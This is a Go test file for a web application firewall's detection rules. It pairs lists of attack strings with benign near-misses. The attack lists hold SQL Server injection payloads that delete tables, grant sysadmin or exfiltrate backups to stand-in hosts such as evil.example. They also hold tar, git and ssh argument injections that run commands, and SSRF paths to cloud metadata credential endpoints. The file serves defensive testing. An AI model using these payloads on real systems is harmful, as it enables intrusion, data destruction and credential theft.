package waf

import (
	"strings"
	"testing"
)

// attack78Attacks are attack 78's finds and the Open list's sort probes
// closed with them: POSITION('a' IN password) as a sort key, a JavaScript
// breakout into a template compiler (Vue.compile, _.template), SQL Server's
// REVERT, WRITETEXT, UPDATETEXT and SEND ON CONVERSATION; SQL Server
// statements after a sort key or an operand (name desc delete from users,
// null shutdown), RECEIVE and ADD SIGNATURE.
var attack78Attacks = []string{"position('a' in password)", "POSITION ( 'ab' IN users.password )",
	"'-Vue.compile(name)-'", "'-_.template(name)()-'", "'-Handlebars.compile(name)()-'", "');Vue.compile(location.hash.slice(1))//",
	"x' revert--", "x' writetext users.bio @p 'pwned'--", "x' updatetext users.bio @p 0 null 'pwned'--", "x' writetext bulk users.bio 0x1 'x'--",
	"x' send on conversation @h ('x')--",
	// a statement after a sort key or an operand that is not a number
	"name desc exec sp_addsrvrolemember 'me','sysadmin'", "name desc delete from users", "name delete from users--",
	"name asc insert into users values('me','admin')", "name desc update users set role=1",
	`name desc backup database app to disk='\\evil.example\s\a.bak'`, "name truncate table audit_log",
	"price create login x with password='P@ssw0rd!1'", "name desc if 1=1 delete from users",
	"name desc offset 0 rows fetch next 1 rows only delete from users", "asc exec sp_addsrvrolemember 'me','sysadmin'",
	"null insert into users values('me','admin')", "null exec sp_addsrvrolemember 'me','sysadmin'", "null shutdown", "@@spid shutdown",
	"id update users set role=1", "user_id drop table users", "null grant control to public", "null alter login sa enable",
	`null restore database app from disk='\\evil\a'`, "+id delete from users", "current_user delete from users",
	"sysdatetime() delete from users", "id) delete from users--", "@@spid) insert into users values(1)--", "name, price desc drop table users",
	// a review: an operand's expression before the statement, EXEC of a
	// name with an empty schema
	"id*1 delete from users", "id+0 delete from users", "null or 1=1 delete from users", "id is null delete from users",
	"id in (1) delete from users", "id between 1 and 2 delete from users", "name collate Latin1_General_CI_AS desc delete from users",
	`x' exec [master]..[xp_dirtree] '\\evil\a`,
	// kinds 210201 did not read
	"x' receive top(1) * from dbo.q--", "x' waitfor (receive * from q)--", "x' receive conversation_handle, message_body from q--",
	"x' add signature to dbo.p by certificate c--", "x' add counter signature to dbo.p by certificate c--",
	// string endings 210201 still reads
	"x' exec @r = dbo.p 'a", "x' writetext t.c @p '",
	"x' delete from users where name like '%", "x' /* ' */ delete from users--", "x' 'a' delete from users--"}

// attack78CRS are refused by the CRS alone too.
var attack78CRS = []string{"name,position('a' in password) desc", "x' exec xp_cmdshell 'whoami", "x' update users set a='",
	"x' insert into t select password '", `x' exec master..xp_dirtree '\\evil\a'--`}

// attack78Benign are near-misses.
var attack78Benign = []string{"position", "position desc, name", "sort by position('a' in b) for prose", "the position (x) of a point",
	"Run 'npm run build' - compile(x) takes a while", "The 'Blog' template (template.html) is ready", "Vue.compile('<div/>') returns a render function",
	"Don't rollback -- it's fine", "Don't revert -- it is fine", "The 'send' button -- send on conversation threads", "Please revert -- don't merge",
	// attack 78's false positives of 210201: statements quoted in prose, a
	// statement inside SQL's second string
	"Tip: use 'OPEN SYMMETRIC KEY SSN_Key_01 DECRYPTION BY CERTIFICATE HumanResources037' before you decrypt",
	"Use 'ALTER DATABASE SCOPED CONFIGURATION SET MAXDOP = 4' on Azure SQL", "Run 'CREATE INDEX ix_name ON users(name)' to speed it up",
	"I always run 'RESTORE HEADERONLY FROM DISK = N''x.bak''' first", "Our DBA said: 'BACKUP LOG db TO DISK = ''nul''' fixes the log growth",
	"I'm using 'CREATE USER app FOR LOGIN app' -- is that right?", "It's 'merge into target using source on ...' in Oracle",
	"Choose 'Edit' and update profile set to public -- easy", "Kids' art: create table decorations from paper -- fun",
	"Use 'merge' then merge branch using rebase -- cleaner",
	// one word before a statement that takes nothing, or with no SQL in it
	"Server shutdown", "Please create user profiles", "Admins drop table reservations", "Students' receive mail from teachers -- daily",
	"Parents' receive a letter from school -- ok", "Please 'add signature to the form' -- thanks",
	// a review's: titles with a tag before a statement's words
	"[WIP] Delete from favorites", "[Bug] Update user set to inactive after reset", "[UI] Drop table borders on mobile",
	"[Mobile] Update profile set up flow", "(Draft) Update users set inactive after 90 days", "(Optional) Delete from favorites",
	"Name (asc) delete from list", "User update profile set (name, email)", `"Admin" delete from group (bug)`,
	// 210153's: a word and a statement's first word after a ;
	"In Postgres you can do SELECT created_at::date FROM orders; to drop the time part", "Cast it to date; to drop the time part"}

// TestAttack78: the gateway's rules refuse attack78Attacks through a real
// Caddy (in the query and JSON) and none of attack78Benign.
func TestAttack78(t *testing.T) {
	operatorTable(t, "2101xx/2102xx", func(v string) bool {
		return tsqlStatement(v) || sortListProbe(v) || oracleFunction(v) || jsStringBreakout(v) || shellPrefixed(v)
	}, attack78Attacks, attack78CRS, attack78Benign)
}

// TestCPUBoundAttack78: 16 KiB of the shapes attack 78's readings meet
// (sort keys and operands before a statement, many strings and comments
// before one, many statements before one quote left open, receive lists,
// options among arguments) cost what the bound allows.
func TestCPUBoundAttack78(t *testing.T) {
	repeatedJSONUnder(t, "null delete from a ", "name, ", "'a' ", "/* ", "/* */ ", "x' delete from a where b ", "' exec a.b ", "' receive a, ",
		"' add counter signature to a by ", "x' delete from a.[b] where c like ", " -c ", " --to-command=", " -o ", " 'x", " -I ", " -TT \"",
		" -ossh ", " -c core.sshCommand=", "a > 'b', ", "not ", "not (", "geography::a(", "a like '", "169.254.169.254/", "a/", "id*1 ", "a in (", "a between ", "a is null ", "(a) ", "a > $$", " -vI", " --to-c=")
}

// attack78Arguments are attack 78's argument injections: an option that
// runs a command after a value's first word, as a command's arguments
// (210204), and tar's other such options after a separator (210193).
var attack78Arguments = []string{"a.tar --to-command=sh", "a.tar --use-compress-program=id", "a.tar -I id",
	"a.tar --checkpoint=1 --checkpoint-action=exec=id", "a.tar --rsh-command=id", "a.zip -T -TT id", "a.zip -T --unzip-command=id",
	"origin --upload-pack=id", "host -oProxyCommand=id", "host -o ProxyCommand=id", "main --exec=id", "x -c core.sshCommand=id",
	"x;tar xf a.tar --to-command=id", "x&&tar xf a.tar --to-command=id",
	"x|tar xf a.tar --to-command=id", "x;tar xf a.tar --to-command=perl", "x\n-c core.sshCommand=id",
	// a review: abbreviations, bundles, ssh's blank
	"a.tar --to-comm=sh", "a.tar --checkpoint=1 --checkpoint-act=exec=id", "a.tar --use-compress-prog=id", "origin --upload-pa=id",
	"x; tar -xf a.tar --to-comm=sh", "a.tar -vIid", "a.tar -xvI id", "host -o 'ProxyCommand id'"}

// attack78ArgumentsBenign are everyday command lines and how-tos.
var attack78ArgumentsBenign = []string{"Use tar --to-command=cat to print each file", "gcc -I include -o app main.c", `bash -c "python x.py"`,
	"git -c core.editor=vim commit", "tar -czf backup.tar.gz --exclude=node_modules .", "find . -name '*.go' -exec gofmt -l {} +",
	"zip -r site.zip public -x '*.map'", "git rebase -i --exec 'npm test' main", "add -o ServerAliveInterval=30 to the config",
	"man -P less ls", "tar -I zstd -xf a.tar.zst", "git clone --depth 1 origin",
	// a review's: everyday short options of other tools, paths, a proxy
	"please run curl -I 'https://example.com/search?q=a&page=2'", "then curl -F 'file=@photo.jpg;type=image/jpeg' https://api.example.com/upload",
	"add -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' to it", "use -P 'foo|bar' for alternation", "use -x 'yes|no' for whole lines"}

// TestArgumentOptions: rule 210204 and 210193 refuse attack78Arguments
// through a real Caddy, and none of attack78ArgumentsBenign.
func TestArgumentOptions(t *testing.T) {
	// what the CRS alone refuses (so not through Caddy), the operator
	// passes: a path, a pipe as a field separator (a review)
	for _, v := range []string{"git clone --upload-pack=/opt/git/bin/git-upload-pack me@host:repo.git",
		"tar -cf backup.tar --checkpoint=1000 --checkpoint-action=exec=/usr/local/bin/progress.sh /data", "awk -F'|' '{print $2}' data.txt",
		"grep -P 'foo|bar' app.log", "grep -r -I 'TODO|FIXME' src", "psql -A -F '|' -c 'select * from t'",
		"ssh -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' host"} {
		if argumentOptions(v) {
			t.Errorf("210204 matches the benign %q", v)
		}
	}
	operatorTable(t, "210204/210193", func(v string) bool { return argumentOptions(v) || shellPrefixed(v) }, attack78Arguments,
		[]string{"a.tar --to-command 'sh -c id'", "a.tar -F /tmp/x --info-script=bash"}, attack78ArgumentsBenign)
}

// attack78Metadata are attack 78's SSRF finds: a metadata server and its
// API's path with no scheme (210205), which an application that puts
// http:// before a user's text fetches.
var attack78Metadata = []string{"169.254.169.254/latest/meta-data/iam/security-credentials/", "[fd00:ec2::254]/latest/meta-data/",
	"metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "100.100.100.200/latest/meta-data/",
	"169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01", "2852039166/latest/meta-data/", "0xa9fea9fe/latest/meta-data/",
	"169.254.170.2/v2/credentials/x", "metadata/computeMetadata/v1/", "169.254.169.254:80/latest/",
	`169.254.169.254\latest\meta-data`, "169.254.169.254/2009-04-04/meta-data/", "metadata.google.internal./computeMetadata/v1/",
	`\\169.254.169.254\latest\meta-data\`, "2852039166/./latest/meta-data/iam/", "169.254.169.254/./latest/", "instance-data/latest/meta-data/",
	"rancher-metadata/2015-12-19/self/host", "metadata:80/computeMetadata/v1/"}

// attack78MetadataBenign are addresses and paths near them.
var attack78MetadataBenign = []string{"The link-local range is 169.254.0.0/16 on every host", "metadata/v1/items", "see 10.0.0.1/api",
	"192.168.1.1/admin", "/orders/2852039166/items", "169.254.1.1/setup", "Set the metadata/ folder aside", "169.254.169.254 is AWS's metadata address",
	`\\169.254.169.254\share`, "/rancher/rancher-metadata/tree/master", "https://github.com/rancher/rancher-metadata/blob/master/README.md",
	"/api/projects/42/instance-data/export",
	"see 169.254.169.254/latest/user-data", "On EC2, query 169.254.169.254/latest/meta-data/ from the instance to get its id."}

// TestSchemelessMetadata: rule 210205 refuses attack78Metadata in the
// query, JSON and a request's path through a real Caddy, and none of
// attack78MetadataBenign.
func TestSchemelessMetadata(t *testing.T) {
	lower := func(v string) bool { return schemelessMetadata(strings.ToLower(v)) }
	operatorTable(t, "210205", lower, attack78Metadata, nil, attack78MetadataBenign)
	var misses, passes []probe
	for _, p := range []string{"/proxy/169.254.169.254/latest/meta-data/iam/", "/unsafe/300x200/metadata.google.internal/computeMetadata/v1/instance/",
		"/proxy/http:169.254.169.254/latest/meta-data/", "/proxy/2852039166/./latest/meta-data/"} {
		misses = append(misses, probe{name: "path " + p, method: "GET", path: p})
	}
	for _, p := range []string{"/orders/2852039166/items", "/docs/169.254.0.0/16", "/rancher/rancher-metadata/tree/master"} {
		passes = append(passes, probe{name: "path " + p, method: "GET", path: p})
	}
	runBeyondTheCRS(t, nil, misses, passes)
}

// FuzzAttack78Readings: any value is read by attack 78's new readings
// without a panic, and an address atonAddr reads is one netip prints and
// reads back.
func FuzzAttack78Readings(f *testing.F) {
	for _, v := range concat(attack78Attacks, attack78Benign, attack78Arguments, attack78ArgumentsBenign, attack78Metadata, attack78MetadataBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		tsqlStatement(v)
		argumentOptions(v)
		schemelessMetadata(strings.ToLower(v))
		if ip, ok := atonAddr(v); ok && !ip.Is4() {
			t.Errorf("atonAddr(%q) = %v, not IPv4", v, ip)
		}
	})
}

// TestAtonAddr: atonAddr reads inet_aton's spellings as glibc does.
func TestAtonAddr(t *testing.T) {
	for in, want := range map[string]string{"2852039166": "169.254.169.254", "0xa9fea9fe": "169.254.169.254", "0251.0376.0251.0376": "169.254.169.254",
		"169.254.43518": "169.254.169.254", "169.16689662": "169.254.169.254", "0x7f.1": "127.0.0.1", "0": "0.0.0.0", "1.2.3.4": "1.2.3.4"} {
		if ip, ok := atonAddr(in); !ok || ip.String() != want {
			t.Errorf("atonAddr(%q) = %v, %v; want %s", in, ip, ok, want)
		}
	}
	for _, in := range []string{"1.2.3.4.5", "08", "1.256.1.1", "4294967296", "1.2.65536", "", "a.b", "1..2"} {
		if ip, ok := atonAddr(in); ok {
			t.Errorf("atonAddr(%q) = %v, want none", in, ip)
		}
	}
}

// attack78Sorts are attack 78's sort-slot probes (210202): a test after
// NOT or a later item, PostgreSQL's ^@, a match or a search called, SQL
// Server's functions of numbers and its CLR types.
var attack78Sorts = []string{"not password like 'pw1%'", "not password ~ '^a'", "not password ilike 'a%'", "not password > 'm'",
	"not password similar to 'a%'", "not password glob 'a*'", "name desc, not password ~ '^a'", "desc,not password like 'a%'",
	"password ^@ 'pw1'", "regexp_like(password,'^pw1')", "nchar(password)", "dateadd(day,password,0)", "cast(password as hierarchyid)",
	"geography::Parse(password)", "geometry::STGeomFromText(password,0)", "hierarchyid::Parse(password) desc",
	// a review: PostgreSQL's other strings and ordering operators
	"password > e'm'", "password > $$m$$", "password >= $t$m$t$", "password > U&'m'", "password ~>~ 'm'", "password ~<=~ 'm'",
	"password @@ 'pw1'", "password is distinct from 'x'", "name, password is not distinct from 'x'", "name desc, password ~ '^a'"}

// attack78SortsBenign are sort values and prose near them.
var attack78SortsBenign = []string{"Looks like 'magic'", "not like 'this'", "Not quite 'there'", "name = 'Bob'", "not name", "name desc, price",
	"geography desc", "geometry, name",
	// a review's: equality (a filter's), a number's functions of numbers
	"name desc, status != 'Done'", "dateadd(day, 1, created_at)", "geometry::Point(1, 2, 4326)", "datefromparts(year, month, 1)"}

// TestAttack78Sorts: rule 210202 refuses attack78Sorts through a real
// Caddy, and none of attack78SortsBenign.
func TestAttack78Sorts(t *testing.T) {
	operatorTable(t, "210202", sortListProbe, attack78Sorts, []string{"charindex('a', password)", "name, starts_with(password, 'a') desc"},
		attack78SortsBenign)
}
